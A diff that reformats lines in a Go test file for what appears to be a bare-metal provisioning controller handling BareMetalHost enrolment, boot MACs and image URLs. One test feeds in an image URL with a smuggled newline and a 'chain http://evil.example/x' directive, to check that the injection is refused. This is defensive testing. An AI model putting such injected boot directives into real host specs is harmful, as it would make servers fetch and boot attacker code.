@@ -45,7 +45,9 @@ func ekFingerprint(t *testing.T, tpm *swtpm.TPM) string {
 	return fp
 }
 
-func noWindow(h *metal3v1.BareMetalHost) { delete(h.Annotations, baremetalhost.EnrolmentWindowAnnotation) }
+func noWindow(h *metal3v1.BareMetalHost) {
+	delete(h.Annotations, baremetalhost.EnrolmentWindowAnnotation)
+}
 
 // Enrolment is explicit. A host without a registered EK or an open window is refused (EnrolmentClosed)
 // without being powered off, and provisions on a later attempt once an operator opens a window; an
@@ -221,7 +223,9 @@ func TestDuplicateBootMACAcrossNamespaces(t *testing.T) {
 	g.Expect(sim.State("b").PXEBoots).To(BeZero())
 
 	g.Expect(env.Delete(ctx, b)).To(Succeed())
-	g.Eventually(func() bool { return apierrors.IsNotFound(env.Get(ctx, client.ObjectKeyFromObject(b), &metal3v1.BareMetalHost{})) }).Should(BeTrue())
+	g.Eventually(func() bool {
+		return apierrors.IsNotFound(env.Get(ctx, client.ObjectKeyFromObject(b), &metal3v1.BareMetalHost{}))
+	}).Should(BeTrue())
 	g.Consistently(inTable, "2s").Should(Equal(nsA+"/a"), "the duplicate's deletion did not remove the first host's boot entry")
 }
 
@@ -240,7 +244,9 @@ func TestImageURLInjectionRefused(t *testing.T) {
 	h := newHost(g, ns, "h1", sim, "s1", "52:54:00:53:00:01", bmcPass)
 	g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
 	claim(g, ns, h, "never")
-	patchHost(g, h, func(h *metal3v1.BareMetalHost) { h.Spec.Image.URL = "http://images.example/live.iso\nchain http://evil.example/x" })
+	patchHost(g, h, func(h *metal3v1.BareMetalHost) {
+		h.Spec.Image.URL = "http://images.example/live.iso\nchain http://evil.example/x"
+	})
 	g.Eventually(condition(h, baremetalhost.BareMetalHostProvisionedCondition)).Should(And(
 		HaveField("Reason", inventory.ReasonInvalidBootParameter), HaveField("Message", ContainSubstring("spec.image.url"))))
 	g.Expect(getHost(g, h).Status.ErrorType).To(Equal(metal3v1.ProvisioningError))
